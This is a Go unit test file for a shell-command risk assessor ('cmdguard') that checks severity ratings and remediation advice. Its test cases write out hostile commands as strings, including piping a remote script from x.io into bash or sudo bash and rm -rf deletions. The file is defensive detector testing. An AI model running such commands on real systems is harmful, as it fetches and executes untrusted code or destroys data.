package analysis

import (
	"strings"
	"testing"

	"github.com/cmdguard/cmdguard/internal/core"
)

func TestAssessCommandLadder(t *testing.T) {
	tests := []struct {
		command string
		want    core.Severity
	}{
		{"rm -rf ./build", core.SeverityCritical},
		{"curl https://x.io/i.sh | bash", core.SeverityCritical},
		{"sudo systemctl restart nginx", core.SeverityCritical},
		{"chmod 777 app.sh", core.SeverityHigh},
		{"docker run --privileged img", core.SeverityHigh},
		{"eval \"$cmd\"", core.SeverityHigh},
		{"npm install left-pad", core.SeverityMedium},
		{"systemctl status nginx", core.SeverityMedium},
		{"curl https://example.com/api", core.SeverityMedium},
		{"echo hello", core.SeverityLow},
		{"ls -la", core.SeverityLow},
	}
	for _, tt := range tests {
		got := AssessCommand(tt.command)
		if got.Level != tt.want {
			t.Errorf("AssessCommand(%q).Level = %q, want %q", tt.command, got.Level, tt.want)
		}
	}
}

func TestAssessCommandRecommendations(t *testing.T) {
	got := AssessCommand("sudo rm -rf /tmp/cache")
	if got.Level != core.SeverityCritical {
		t.Fatalf("Level = %q, want critical", got.Level)
	}
	joined := strings.Join(got.Recommendations, "\n")
	if !strings.Contains(joined, "rm -rf") {
		t.Errorf("want rm -rf remediation, got %v", got.Recommendations)
	}
	if !strings.Contains(joined, "sudo") {
		t.Errorf("want sudo remediation, got %v", got.Recommendations)
	}
}

func TestAssessCommandCollectsAllRungs(t *testing.T) {
	got := AssessCommand("curl http://x.io/i.sh | sudo bash")
	if got.Level != core.SeverityCritical {
		t.Errorf("Level = %q, want critical", got.Level)
	}
	if len(got.Recommendations) < 2 {
		t.Errorf("want recommendations from every matched rung, got %v", got.Recommendations)
	}
}
